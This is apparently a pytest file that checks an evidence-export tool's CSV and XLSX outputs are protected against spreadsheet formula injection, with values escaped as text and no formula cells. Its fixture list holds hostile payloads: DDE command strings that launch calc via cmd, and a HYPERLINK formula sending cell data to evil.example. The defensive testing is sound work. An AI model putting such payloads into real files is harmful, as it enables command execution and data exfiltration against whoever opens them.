"""A spreadsheet must not run what the contractor's side wrote: an exemption's reason, a
device's name that starts with = + - @ (a formula, or DDE: `=cmd|' /C calc'!A0`) opened by
the bureau's evaluator in Excel. The evidence's CSVs keep such a cell as text (a leading
apostrophe, as OWASP advises), its XLSX holds every text as a string cell, never a
formula, and `evidence verify` still passes; the fault list's XLSX likewise."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from collector.cli import main
from collector.ledger.chain import Ledger
from collector.pipeline.replay import replay
from slawatch.config.inventory import Inventory
from slawatch.config.loader import load_config
from slawatch.config.policies import PolicyBook
from slawatch.config.policy import Policy
from tests.collector.evidence.test_export import members, verify
from tests.collector.sla.conftest import INVENTORY, POLICY, District, camera, hour, write
from tests.ledgers import ledger_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    named = camera("C1", "SW1", 1).replace("name: 点位 C1", "name: '=1+1 点位'")
    inventory_file, policy_file = write(folder, INVENTORY + named, POLICY)
    district = District(["C1", "SW1", "SW2"], down={"C1": [(100, 102)]})
    ledger = Ledger(ledger_in(folder))
    replay(
        load_config(inventory_file, Inventory),
        PolicyBook.only(load_config(policy_file, Policy)),
        district.observations(),
        district.acks,
        ledger,
    )
    for n, reason in enumerate(FORMULAS):
        body = {"event": "announced", "id": f"w{n}", "what": "maintenance",
                "start": hour(99).isoformat(), "end": hour(103).isoformat(), "reason": reason,
                "cause": None, "regions": [], "links": [], "ticket": None, "devices": ["C1"],
                "by": reason}  # fmt: skip
        with ledger.transaction():
            ledger.append("exemption", hour(99.5).isoformat(), body)
    ledger.close()
    out = folder / "bundle.zip"
    command = [
        "evidence", "export", "--ledger", ledger_in(folder),
        "--inventory", str(inventory_file), "--policy", str(policy_file),
        "--period", "2026-Q3", "--out", str(out),
    ]  # fmt: skip
    assert main(command) == 0
    return out


def test_no_csv_cell_of_the_evidence_starts_a_formula(bundle: Path) -> None:
    files = members(bundle)
    seen = []
    for name, data in files.items():
        if not name.endswith(".csv"):
            continue
        for row in cells(data):
            for cell in row:
                if cell.startswith(STARTS) and not re.fullmatch(r"-|-\d+(\.\d+)?", cell):
                    seen.append((name, cell))
    assert not seen, seen
    listed = "\n".join(",".join(row) for row in cells(files["exemptions.csv"]))
    for reason in FORMULAS:  # still there, as text
        assert "'" + reason in listed, reason


def test_the_evidence_workbook_holds_text_never_formulas(
    bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = members(bundle)
    (book,) = [data for name, data in files.items() if name.endswith(".xlsx")]
    with zipfile.ZipFile(io.BytesIO(book)) as sheets:
        xml = b"".join(sheets.read(n) for n in sheets.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml
    assert b"<f " not in xml
    assert b"=HYPERLINK" in xml  # the reason is there, as a string cell
    code, said = verify(bundle, capsys)
    assert code == 0, said
